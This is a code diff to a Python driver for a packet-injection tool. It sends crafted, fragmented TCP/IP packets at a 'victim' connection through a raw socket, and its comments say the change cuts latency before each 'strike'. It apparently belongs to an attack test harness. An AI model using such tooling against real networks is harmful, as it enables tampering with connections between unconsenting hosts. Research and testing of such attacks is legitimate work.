@@ -20,6 +20,7 @@ from __future__ import annotations
 import argparse
 import json
 import random
+import socket
 import sys
 import time
 
@@ -71,12 +72,19 @@ def main(argv: list[str] | None = None) -> int:
     ap.add_argument("--seed", type=int, default=1)
     args = ap.parse_args(argv)
     args.removed_id = args.removed_id or list(attacks.REMOVED_IDS)
-    from scapy.sendrecv import send
-
+    # One raw IP socket for the whole run (the kernel routes, resolves the next hop and
+    # sends our headers as they are): scapy's send() opens a socket per call, which put
+    # some 50 ms between deciding to strike and the packet on the wire.
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     rng, advance = random.Random(args.seed), {}
     victim, peer = set(args.victim), set(args.peer)
     # The tap is read on from where it stopped: a command costs what was written since.
     tap, learner = attacks.TapFollower(args.tap), attacks.Learner(victim, peer)
+    # scapy's layers load on first use, some 150 ms: before the connection starts, not in
+    # its first moments.
+    from scapy.layers.inet import IP, TCP, fragment
+
+    bytes(fragment(IP(dst=args.victim[0]) / TCP(options=[("NOP", None)]), fragsize=8)[0])
     print("ready", flush=True)
     for line in sys.stdin:
         words = line.split()
@@ -105,8 +113,8 @@ def main(argv: list[str] | None = None) -> int:
             print(json.dumps({"error": str(e)}), flush=True)
             continue
         sent_at = time.time()
-        if packets:
-            send(packets, verbose=False)
+        for pkt in packets:
+            sock.sendto(bytes(pkt), (pkt["IP"].dst, 0))
         print(
             json.dumps(
                 {
